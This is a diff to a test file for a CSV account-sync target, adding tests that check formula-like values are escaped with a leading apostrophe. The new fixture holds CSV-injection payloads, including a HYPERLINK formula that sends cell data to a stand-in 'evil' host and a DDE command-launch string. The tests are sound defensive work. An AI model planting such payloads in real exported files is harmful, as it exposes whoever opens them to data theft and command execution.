@@ -105,7 +105,10 @@ describe('applyCsvTarget: updates are partial and compare-and-set', () => {
     await writeFile(path, 'id,userName,title,phone,active\n1,ada@example.com,Engineer,+44 1,true\n2,alan@example.com,Engineer,+44 2,true\n');
     const results = await apply([change('update', '1', { title: ['Engineer', 'Fellow'] })]);
     expect(outcomes(results)).toEqual([['update', '1', 'done']]);
-    expect(await text()).toBe('id,userName,title,phone,active\n1,ada@example.com,Fellow,+44 1,true\n2,alan@example.com,Engineer,+44 2,true\n');
+    // The other columns keep their values; a phone number's leading + is written as text (formulas.ts).
+    expect(await text()).toBe('id,userName,title,phone,active\n1,ada@example.com,Fellow,\'+44 1,true\n2,alan@example.com,Engineer,\'+44 2,true\n');
+    const own = await readCsvAccounts({ app: 'crm', path, displayPath: DISPLAY, connection: { path: DISPLAY }, key: 'id', formulasEscaped: true });
+    expect(own.accounts.map((a) => a.attributes.phone)).toEqual(['+44 1', '+44 2']);
   });
 
   it('skips a change whose value moved since the plan (neither from nor to), and keeps the file\'s value', async () => {
@@ -274,5 +277,37 @@ describe('applyCsvTarget: safety of the rewrite', () => {
     await apply([change('update', '1', { userName: ['ada;l@example.com', "o'brien;x"] })], {}, connection);
     expect(await text()).toBe("id;userName;active\n1;'o''brien;x';true\n");
     expect((await rows(connection))['1']!.userName).toBe("o'brien;x");
+  });
+});
+
+describe('applyCsvTarget: values a spreadsheet would run as formulas', () => {
+  const hostile = { '1': '=HYPERLINK("http://evil/?"&A1,"x")', '2': "+cmd|' /C calc'!A0", '3': '@SUM(1+1)', '4': '-2+3', '5': '\t=1', '6': "'=1" };
+
+  it('are written with a leading apostrophe, read back as they were, and updated compare-and-set', async () => {
+    const results = await apply(Object.entries(hostile).map(([key, title]) => change('create', key, { title: [null, title] })));
+    expect(results.every((r) => r.outcome === 'done')).toBe(true);
+    const file = await text();
+    expect(file).toContain(`'=HYPERLINK`);
+    expect(file).toContain(`'+cmd`);
+    expect(file).toContain(`'@SUM`);
+    expect(file).toContain(`'-2+3`);
+    expect(file).toContain(`''=1`);
+    // No cell of the file starts with what a spreadsheet evaluates.
+    for (const line of file.split('\n').slice(1)) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    const read = await rows();
+    // As a plain CSV reader sees them: escaped.
+    expect(read['1']!.title).toBe(`'${hostile['1']}`);
+    // As the target reads its own file: the values it was given.
+    const own = await readCsvAccounts({ app: 'crm', path, displayPath: DISPLAY, connection: { path: DISPLAY }, key: 'id', formulasEscaped: true });
+    expect(Object.fromEntries(own.accounts.map((a) => [a.key, a.attributes.title]))).toEqual(hostile);
+    // An update expecting the value it wrote finds it (no false "changed in the file since the plan").
+    const [updated] = await apply([change('update', '1', { title: [hostile['1'], 'Engineer'] })]);
+    expect(updated!.outcome).toBe('done');
+  });
+
+  it('are written as they are when escapeFormulas is off', async () => {
+    await apply([change('create', '1', { title: [null, '=1+1'] })], {}, { escapeFormulas: false });
+    expect(await text()).toMatch(/^1,.*=1\+1/m);
+    expect(await text()).not.toContain(`'=1+1`);
   });
 });
